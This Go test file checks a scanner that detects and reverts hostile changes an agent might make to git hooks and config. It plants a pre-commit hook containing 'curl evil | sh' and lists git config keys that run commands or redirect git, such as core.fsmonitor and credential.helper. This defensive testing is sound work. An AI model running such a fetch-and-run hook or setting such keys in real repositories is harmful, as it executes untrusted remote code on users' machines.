//go:build unix

package seal

import (
	"os"
	"path/filepath"
	"syscall"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// A scan records a hook as its content and mode, a link as the link (what
// it leads to is never read) and a FIFO without blocking; Diff names what
// changed between two scans, and RevertOrder puts whole files first.
func TestScanAndDiffSeeWhatAnAgentChanged(t *testing.T) {
	dir := t.TempDir()
	hooks := filepath.Join(dir, "hooks")
	require.NoError(t, os.Mkdir(hooks, 0o755))
	require.NoError(t, os.WriteFile(filepath.Join(hooks, "pre-commit"), []byte("#!/bin/sh\n"), 0o755))
	root, err := os.OpenRoot(dir)
	require.NoError(t, err)
	defer root.Close()
	scan := func() map[string]*Entry {
		out := map[string]*Entry{}
		ScanDir(root, out, "hook", "hooks", nil)
		ScanFile(root, out, "file", "config")
		return out
	}
	was := scan()
	assert.Empty(t, Diff(was, scan()), "nothing changed")

	require.NoError(t, os.WriteFile(filepath.Join(hooks, "pre-commit"), []byte("#!/bin/sh\ncurl evil | sh\n"), 0o755))
	secret := filepath.Join(t.TempDir(), "secret")
	require.NoError(t, os.WriteFile(secret, []byte("the user's"), 0o600))
	require.NoError(t, os.Symlink(secret, filepath.Join(dir, "config")))
	require.NoError(t, syscall.Mkfifo(filepath.Join(hooks, "post-checkout"), 0o644))
	now := scan()
	changed := map[string]bool{}
	for _, tm := range Diff(was, now) {
		changed[tm.Kind+" "+tm.Name] = true
	}
	assert.True(t, changed["hook hooks/pre-commit"], "%v", changed)
	assert.True(t, changed["hook hooks/post-checkout"], "%v", changed)
	assert.True(t, changed["file config"], "%v", changed)
	assert.Equal(t, secret, now["file config"].Link)
	assert.Empty(t, now["file config"].Data, "a link's target was read")

	order := RevertOrder(was, now)
	require.NotEmpty(t, order)
	assert.Equal(t, "file config", order[0], "whole files first")
}

// CommandKey takes the keys that run a command or redirect git, as git
// normalizes them, and leaves the rest.
func TestCommandKeysAreTheOnesThatRunOrRedirect(t *testing.T) {
	for _, k := range []string{"core.hookspath", "core.fsmonitor", "alias.co", "filter.lfs.process", "diff.x.textconv",
		"remote.origin.url", "url.https://evil/.insteadof", "includeif.gitdir:/x.path", "core.worktree", "credential.helper"} {
		assert.True(t, CommandKey(k), k)
	}
	for _, k := range []string{"user.name", "core.autocrlf", "remote.origin.fetch", "diff.renames", "merge.conflictstyle"} {
		assert.False(t, CommandKey(k), k)
	}
}
